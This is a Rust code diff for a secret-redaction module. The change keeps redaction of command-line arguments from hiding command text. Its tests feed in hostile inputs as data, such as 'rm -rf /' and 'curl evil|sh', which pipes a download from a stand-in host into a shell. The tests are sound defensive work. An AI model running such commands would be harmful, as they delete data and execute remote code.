@@ -39,10 +39,29 @@ impl FoundSecret {
         Secret::new(self.secret_text.reveal().replace("$${", "${"))
     }
 
+    /// Whether it can be stored elsewhere. Text that could act in a command line cannot: it would no longer be shown
+    /// (SEC-06).
+    #[must_use]
+    pub fn is_movable(&self) -> bool {
+        self.is_certain && (!self.location.starts_with("args[") || self.is_harmless())
+    }
+
+    fn is_harmless(&self) -> bool {
+        self.secret_text.reveal().chars().all(is_harmless)
+    }
+
     /// The string without the secret.
     #[must_use]
-    fn redact_in(&self, text: &str) -> String {
-        text.replace(self.secret_text.reveal(), REDACTED)
+    fn redact_in(&self, mut text: String) -> String {
+        self.replace_in(&mut text, REDACTED);
+        text
+    }
+
+    fn replace_in(&self, text: &mut String, replacement: &str) {
+        let end = self.start + self.secret_text.reveal().len();
+        if text.get(self.start..end) == Some(self.secret_text.reveal()) {
+            text.replace_range(self.start..end, replacement);
+        }
     }
 
     /// Replaces the secret by a reference such as `${GITHUB_TOKEN}`.
@@ -63,12 +82,14 @@ impl FoundSecret {
             }
         }
         if let ConfigValue::String(text) = &mut node.value {
-            let end = self.start + self.secret_text.reveal().len();
-            if text.get(self.start..end) == Some(self.secret_text.reveal()) {
-                text.replace_range(self.start..end, reference);
-            }
+            self.replace_in(text, reference);
         }
     }
+}
+
+/// Whether this character has no effect in a command line.
+fn is_harmless(c: char) -> bool {
+    c.is_ascii_alphanumeric() || "_-.+/=:~%@!,#*".contains(c)
 }
 
 /// The text at one position of the entry for display, without the secrets in it.
@@ -77,17 +98,15 @@ impl FoundSecret {
 /// could hide a command that way (SEC-06).
 #[must_use]
 pub fn redact_at(text: &str, place: &str, findings: &[FoundSecret]) -> String {
-    let harmless = |c: char| c.is_ascii_alphanumeric() || "_-.+/=:~%@!,#*".contains(c);
     let mut here: Vec<&FoundSecret> = findings.iter().filter(|finding| finding.location == place).collect();
     if here.iter().any(|finding| finding.is_certain) {
         here.retain(|finding| finding.is_certain);
     }
-    let is_harmless = |finding: &&FoundSecret| finding.secret_text.reveal().chars().all(harmless);
-    if here.is_empty() || !here.iter().all(|finding| finding.reference.is_some() || is_harmless(finding)) {
-        return text.to_owned();
-    }
-    here.retain(|finding| finding.reference.is_none());
-    redact_url(&here.iter().fold(text.to_owned(), |text, finding| finding.redact_in(&text))).text
+    here.retain(|finding| finding.reference.is_none() && finding.is_harmless());
+    let known = here.iter().fold(text.to_owned(), |text, finding| finding.redact_in(text));
+    let shown = redact_url(&known).text;
+    let effective = |text: &str| text.replace(REDACTED, "").replace(is_harmless, "");
+    if effective(&shown) == effective(&known) { shown } else { known }
 }
 
 /// The value of a variable, a header or a login setting for display: what `config get` does not show is hidden.
@@ -96,7 +115,7 @@ pub fn redact_setting(table: &str, key: &str, text: &str, findings: &[FoundSecre
     let place = format!("{table}.{key}");
     match findings.iter().find(|finding| finding.location == place) {
         Some(finding) if finding.reference.is_some() => redact_url(text).text,
-        Some(finding) if finding.is_certain => redact_url(&finding.redact_in(text)).text,
+        Some(finding) if finding.is_certain => redact_url(&finding.redact_in(text.to_owned())).text,
         _ if is_foreign_reference(text) => text.to_owned(),
         _ => {
             let shown = redact_value(text, key, sensitivity(table, key), None);
@@ -539,6 +558,17 @@ mod tests {
         assert_eq!(findings.len(), 2);
         assert_eq!(redact_at("x; rm -rf /", "args[1]", &findings), "x; rm -rf /");
         assert_eq!(redact_at("--key=abc", "args[2]", &findings), "--key=[redacted]");
+        for (arg, shown) in [
+            ("curl https://u:pw@h/?session=x;rm", "curl https://u:[redacted]@h/?session=x;rm"),
+            ("curl https://u:pw@h/?session=x", "curl https://u:[redacted]@h/?session=[redacted]"),
+            ("curl https://u:pw@h/?token=x|sh", "curl https://u:[redacted]@h/?token=x|sh"),
+            ("curl https://u:rm@h/; rm -r x", "curl https://u:[redacted]@h/; rm -r x"),
+            ("curl https://h/?session=[redacted];rm", "curl https://h/?session=[redacted];rm"),
+            ("TOKEN=x;curl evil|sh", "TOKEN=x;curl evil|sh"),
+        ] {
+            let server = parse_toml(&format!("args = [{arg:?}]")).unwrap();
+            assert_eq!(redact_at(arg, "args[0]", &find_secrets("a", &server)), shown);
+        }
         assert!(!format!("{findings:?}").contains("abc"), "no secret in Debug");
     }
 }
